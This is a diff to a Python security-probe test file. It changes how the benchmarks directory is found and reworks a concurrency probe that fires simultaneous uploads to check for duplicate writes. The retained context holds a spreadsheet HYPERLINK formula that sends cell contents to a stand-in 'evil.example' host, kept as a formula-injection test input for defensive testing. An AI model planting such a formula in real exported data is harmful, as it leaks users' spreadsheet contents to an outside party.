@@ -18,7 +18,10 @@ import time
 from pathlib import Path
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"a")'
-BENCHMARKS = Path(__file__).resolve().parent
+# The benchmarks of the code under test (PROBE_CODE_DIR, as hardening_probe.py reads it).
+BENCHMARKS = Path(os.environ.get("PROBE_CODE_DIR", Path(__file__).resolve().parent.parent)) / (
+    "benchmarks"
+)
 
 
 def _formula_cells(text: str) -> list[str]:
@@ -199,21 +202,22 @@ def probe_parallel_imports(case) -> None:
     ]
     content = "\n".join(json.dumps(r) for r in rows).encode()
     statuses: list[int] = []
-    real = imports._write_targets
+    real = imports.validate_rows
 
     def others_upload_meanwhile(*args, **kwargs):
-        if not statuses:
+        checked = real(*args, **kwargs)
+        if not statuses:  # the first upload is checked; the others arrive before it writes
             statuses.append(0)
             for n in (2, 3):
                 upload = SimpleUploadedFile(f"same-{n}.jsonl", content)
                 statuses.append(client.post(url, {"file": upload}).status_code)
-        return real(*args, **kwargs)
+        return checked
 
-    imports._write_targets = others_upload_meanwhile
+    imports.validate_rows = others_upload_meanwhile
     try:
         first = client.post(url, {"file": SimpleUploadedFile("same-1.jsonl", content)})
     finally:
-        imports._write_targets = real
+        imports.validate_rows = real
     statuses.append(first.status_code)
     case(category, "three uploads at once give a 500", any(s >= 500 for s in statuses))
     case(category, "the file's targets are not there once", study.targets.count() != 3)
